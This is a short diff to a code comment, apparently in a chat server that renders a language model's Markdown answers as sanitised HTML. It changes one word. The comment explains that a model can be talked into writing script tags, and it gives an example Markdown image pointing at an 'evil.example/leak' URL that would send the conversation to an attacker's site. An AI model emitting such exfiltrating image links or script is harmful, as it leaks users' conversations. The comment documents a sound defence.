@@ -1,4 +1,4 @@
-// Answers are Markdown. They are turned into HTML here, on the server, and sanitised: a model
+// Answers are Markdown. They are turned into HTML here, on the server, and sanitised: an LLM
 // can be talked into writing anything, including <script>, so its HTML is never trusted.
 // Nor are its images: ![x](https://evil.example/leak?d=...) would make the browser send the
 // conversation to that site as soon as the answer shows, so an image becomes a link instead.
